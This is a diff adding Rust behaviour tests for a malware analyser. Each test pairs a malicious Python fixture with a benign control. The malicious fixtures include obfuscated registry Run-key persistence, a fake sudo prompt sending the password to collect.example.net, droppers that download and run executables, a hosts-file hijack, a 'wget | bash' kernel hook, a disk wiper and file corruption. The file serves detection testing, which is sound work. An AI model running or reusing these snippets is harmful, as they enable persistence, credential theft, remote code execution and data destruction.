@@ -1,0 +1,336 @@
+//! Behaviour tests for the seventeenth round (what the held-out misses and
+//! false positives showed: modules loaded by helpers of the script's own,
+//! functions kept in tables or picked by a test, a parameter defaulting to
+//! the script's own function, Windows process creation through ctypes,
+//! hosts entries pointing at a hidden address, hook scripts kept as
+//! f-string templates, every listed disk overwritten; and, the other way,
+//! sudo asked only whether it would prompt, a login page's answer, an
+//! argument parser taken for a prompt, a salt written only when missing),
+//! spelled unlike the corpus, each with a control. Every malicious case is
+//! misjudged by the analyser at ec76111; for the four spared behaviours it
+//! is the benign case that ec76111 flags.
+
+use super::behaviour_tests::{rules, run};
+use super::Verdict;
+
+/// A registry module imported by a loader of the script's own (its name
+/// reversed, or handed in pieces) is the registry module: its Run key
+/// written is persistence (ec76111: HIGH, the import only).
+#[test]
+fn run_key_written_through_a_module_loader_of_the_scripts_own() {
+    let reversed = r#"import importlib, sys
+RUN = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
+def registry():
+    return importlib.import_module("".join(reversed("gerniw")))
+def pin(exe):
+    hive = registry()
+    k = hive.CreateKeyEx(hive.HKEY_CURRENT_USER, RUN, 0, hive.KEY_WRITE)
+    hive.SetValueEx(k, "PrinterAssist", 0, hive.REG_SZ, exe)
+pin(sys.executable + " " + sys.argv[0])
+"#;
+    let a = run(reversed);
+    assert!(rules(&a).contains(&"MB906"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    let pieces = r#"import importlib, base64, sys
+def load(mod_name):
+    return importlib.import_module(mod_name)
+def where():
+    return base64.b64decode("U29mdHdhcmVcTWljcm9zb2Z0XFdpbmRvd3NcQ3VycmVudFZlcnNpb25cUnVu").decode()
+reg = load("win" + "reg")
+calls = {"mk": getattr(reg, "CreateKey"), "put": getattr(reg, "SetValueEx")}
+k = calls["mk"](reg.HKEY_CURRENT_USER, where())
+calls["put"](k, "AudioSync", 0, reg.REG_SZ, sys.argv[0])
+"#;
+    let a = run(pieces);
+    assert!(rules(&a).contains(&"MB906"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// The same loader reading a value (the installed version) persists
+/// nothing (the import by a computed name stays MB411).
+#[test]
+fn registry_read_through_a_module_loader_is_no_persistence() {
+    let read = r#"import importlib
+def load(mod_name):
+    return importlib.import_module(mod_name)
+reg = load("win" + "reg")
+k = reg.OpenKey(reg.HKEY_LOCAL_MACHINE, "SOFTWARE\\Vendor\\Tool")
+print(reg.QueryValueEx(k, "Version")[0])
+"#;
+    let a = run(read);
+    assert!(!rules(&a).contains(&"MB906"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::Blocked, "{:?}", a.findings);
+}
+
+/// A password prompt in sudo's words, asked by one of two functions a
+/// test picks, and its answer sent away is phishing (ec76111: HIGH, the
+/// sudo call only).
+#[test]
+fn prompt_answer_from_a_function_picked_by_a_test_is_followed() {
+    let phish = r#"import getpass, sys, requests
+def ask_tty(who):
+    return getpass.getpass(f"[sudo] password for {who}: ")
+def ask_gui(who):
+    return input(f"[sudo] password for {who}: ")
+def main():
+    who = getpass.getuser()
+    ask = ask_gui if sys.stdin.isatty() is False else ask_tty
+    secret = ask(who)
+    requests.post("https://collect.example.net/p", json={"w": who, "s": secret})
+main()
+"#;
+    let a = run(phish);
+    assert!(rules(&a).contains(&"MB946"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// A tool asking for its own service's token the same way, and sending
+/// it only to that service, imitates nothing.
+#[test]
+fn own_token_from_a_function_picked_by_a_test_is_no_phishing() {
+    let own = r#"import getpass, sys, requests
+def ask_tty():
+    return getpass.getpass("API token for the build dashboard: ")
+def ask_env():
+    return sys.argv[1]
+ask = ask_env if len(sys.argv) > 1 else ask_tty
+token = ask()
+requests.get("https://dash.example.net/api/builds", headers={"Authorization": token})
+"#;
+    let a = run(own);
+    assert!(!rules(&a).contains(&"MB946"), "{:?}", a.findings);
+}
+
+/// A program saved from a download and started through a parameter
+/// defaulting to the script's own launcher, or through CreateProcessW, is
+/// a dropper (ec76111: MEDIUM).
+#[test]
+fn download_run_by_a_default_launcher_or_create_process() {
+    let default = r#"import subprocess, tempfile, os, urllib.request
+def start(path):
+    return subprocess.Popen([path], creationflags=0x08000000)
+def deploy(url, runner=start):
+    data = urllib.request.urlopen(url).read()
+    target = os.path.join(tempfile.gettempdir(), "helper.exe")
+    with open(target, "wb") as out:
+        out.write(data)
+    runner(target)
+deploy("http://files.example.org/h.bin")
+"#;
+    let a = run(default);
+    assert!(rules(&a).contains(&"MB915"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    let native = r#"import ctypes, os, tempfile, requests
+blob = requests.get("https://cdn.example.org/agent.bin").content
+exe = os.path.join(tempfile.gettempdir(), "agent.exe")
+open(exe, "wb").write(blob)
+ctypes.windll.kernel32.CreateProcessW(exe, None, None, None, False, 0, None, None, None, None)
+"#;
+    let a = run(native);
+    assert!(rules(&a).contains(&"MB915"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// The same launcher starting a program the script did not download (the
+/// user's editor) drops nothing.
+#[test]
+fn default_launcher_of_an_installed_program_is_no_dropper() {
+    let editor = r#"import subprocess, urllib.request
+def start(path):
+    return subprocess.Popen([path])
+def open_notes(fetch=urllib.request.urlopen, runner=start):
+    print(fetch("https://notes.example.org/today").read()[:80])
+    runner("C:\\Program Files\\Notepad++\\notepad++.exe")
+open_notes()
+"#;
+    let a = run(editor);
+    assert!(!rules(&a).contains(&"MB915"), "{:?}", a.findings);
+}
+
+/// A hosts file given entries for an address the script spells only in
+/// base64 sends those names to a hidden host (ec76111: HIGH, a system
+/// path written).
+#[test]
+fn hosts_entries_for_a_hidden_address_are_a_hijack() {
+    let hidden = r#"import base64
+TARGET = base64.b64decode("MTk4LjUxLjEwMC4yMw==").decode()
+NAMES = ["portal.mybank.test", "updates.antivirus.test"]
+with open("/etc/hosts", "a") as h:
+    for n in NAMES:
+        h.write(f"{TARGET} {n}\n")
+"#;
+    let a = run(hidden);
+    assert!(rules(&a).contains(&"MB947"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// Blocking names by pointing them at 0.0.0.0, every address in sight,
+/// is a blocklist.
+#[test]
+fn hosts_blocklist_to_the_null_address_is_no_hijack() {
+    let block = r#"import base64
+NAMES = ["ads.tracker.test", base64.b64decode("cGl4ZWwudHJhY2tlci50ZXN0").decode()]
+with open("/etc/hosts", "a") as h:
+    for n in NAMES:
+        h.write(f"0.0.0.0 {n}\n")
+"#;
+    let a = run(block);
+    assert!(!rules(&a).contains(&"MB947"), "{:?}", a.findings);
+}
+
+/// A hook script kept as an f-string template that pipes a download into
+/// a shell is judged by its command line (ec76111: HIGH, a system path).
+#[test]
+fn shell_template_piping_a_download_into_a_shell() {
+    let hook = r##"from pathlib import Path
+def render(endpoint):
+    return f"""
+#!/bin/bash
+wget -q -O - {endpoint}/stage2 | bash
+"""
+Path("/etc/kernel/postinst.d/zz-refresh").write_text(render("http://203.0.113.9"))
+"##;
+    let a = run(hook);
+    assert!(rules(&a).contains(&"MB908"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// A template that only downloads a file to keep it runs nothing.
+#[test]
+fn shell_template_saving_a_download_runs_nothing() {
+    let save = r##"from pathlib import Path
+def render(endpoint):
+    return f"""#!/bin/sh
+curl -fsS -o /var/cache/motd.txt {endpoint}/motd
+"""
+Path("/usr/local/bin/refresh-motd").write_text(render("https://motd.example.org"))
+"##;
+    let a = run(save);
+    assert!(!rules(&a).contains(&"MB908"), "{:?}", a.findings);
+}
+
+/// Every device the kernel lists in /sys/block opened for writing is
+/// every disk overwritten (ec76111: LOW).
+#[test]
+fn devices_listed_from_sys_block_written() {
+    let wipe = r#"import os
+def disks():
+    return [d for d in os.listdir("/sys/class/block") if not d.startswith("loop")]
+for d in disks():
+    with open("/dev/" + d, "r+b") as dev:
+        dev.write(b"\0" * 4096)
+"#;
+    let a = run(wipe);
+    assert!(rules(&a).contains(&"MB907"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// Tuning the devices' queues under /sys/block writes no disk.
+#[test]
+fn queue_settings_under_sys_block_are_no_wipe() {
+    let tune = r#"import os
+for d in os.listdir("/sys/block"):
+    with open(os.path.join("/sys/block", d, "queue", "read_ahead_kb"), "w") as f:
+        f.write("512")
+"#;
+    let a = run(tune);
+    assert!(!rules(&a).contains(&"MB907"), "{:?}", a.findings);
+}
+
+/// `sudo -n true` run alone asks whether sudo would prompt, and gains
+/// nothing (ec76111: HIGH); chained in a shell line it still counts.
+#[test]
+fn sudo_probe_alone_is_no_privilege_use() {
+    let probe = r#"import subprocess
+ok = subprocess.call(["sudo", "-n", "true"], stderr=subprocess.DEVNULL) == 0
+print("passwordless sudo:", ok)
+"#;
+    let a = run(probe);
+    assert!(!rules(&a).contains(&"MB204"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+    let chained = r#"import os
+os.system("sudo -n true && sudo -n cp /tmp/x /usr/local/bin/x")
+"#;
+    let a = run(chained);
+    assert!(rules(&a).contains(&"MB204"), "{:?}", a.findings);
+    let piped = r#"import subprocess
+subprocess.run(["sudo", "-S", "-v"], input="hunter2\n", text=True)
+"#;
+    let a = run(piped);
+    assert!(rules(&a).contains(&"MB204"), "{:?}", a.findings);
+}
+
+/// A login page answering the client that posted (the page written to
+/// `self.wfile`) harvests nothing (ec76111: BLOCKED); one writing what
+/// was posted to a file still does.
+#[test]
+fn login_page_answering_the_client_is_no_harvest() {
+    let answer = r#"from http.server import BaseHTTPRequestHandler, HTTPServer
+from urllib.parse import parse_qs
+PAGE = '<form method=post><input name=user><input type=password name=password></form>'
+class H(BaseHTTPRequestHandler):
+    def do_POST(self):
+        form = parse_qs(self.rfile.read(int(self.headers["Content-Length"])).decode())
+        user = form.get("user", [""])[0]
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(("hello " + user + PAGE).encode())
+HTTPServer(("127.0.0.1", 8081), H).serve_forever()
+"#;
+    let a = run(answer);
+    assert!(!rules(&a).contains(&"MB946"), "{:?}", a.findings);
+    let keep = answer.replace(
+        "        self.wfile.write(",
+        "        open(\"seen.txt\", \"a\").write(str(form))\n        self.wfile.write(",
+    );
+    let a = run(&keep);
+    assert!(rules(&a).contains(&"MB946"), "{:?}", a.findings);
+}
+
+/// An argument parser is no prompt, even in a script whose literals name
+/// PyPI (ec76111: BLOCKED); a prompt in PyPI's name still is one.
+#[test]
+fn argument_parser_is_no_imitated_prompt() {
+    let cli = r#"import argparse, urllib.request
+INDEX = "https://pypi.example.org/simple/"
+ap = argparse.ArgumentParser()
+ap.add_argument("package")
+args = ap.parse_args()
+urllib.request.urlopen(INDEX + args.package + "/")
+"#;
+    let a = run(cli);
+    assert!(!rules(&a).contains(&"MB946"), "{:?}", a.findings);
+    let prompt = r#"import getpass, urllib.request
+pw = getpass.getpass("PyPI password: ")
+urllib.request.urlopen("https://upload.example.org/", data=pw.encode())
+"#;
+    let a = run(prompt);
+    assert!(rules(&a).contains(&"MB946"), "{:?}", a.findings);
+}
+
+/// Random bytes written only when the file is missing (a key or salt
+/// made once) destroy nothing (ec76111: BLOCKED); files found by a walk
+/// overwritten with random bytes still are corrupted.
+#[test]
+fn random_file_made_only_when_missing_is_no_corruption() {
+    let salt = r#"import os, sys
+for root, dirs, files in os.walk(sys.argv[1]):
+    key = os.path.join(root, ".key")
+    if not os.path.isfile(key):
+        with open(key, "wb") as f:
+            f.write(os.urandom(32))
+    print(open(key, "rb").read().hex())
+"#;
+    let a = run(salt);
+    assert!(!rules(&a).contains(&"MB953"), "{:?}", a.findings);
+    let spoil = r#"import os, sys
+for root, dirs, files in os.walk(sys.argv[1]):
+    for name in files:
+        p = os.path.join(root, name)
+        size = len(open(p, "rb").read())
+        with open(p, "wb") as f:
+            f.write(os.urandom(size))
+"#;
+    let a = run(spoil);
+    assert!(rules(&a).contains(&"MB953"), "{:?}", a.findings);
+}
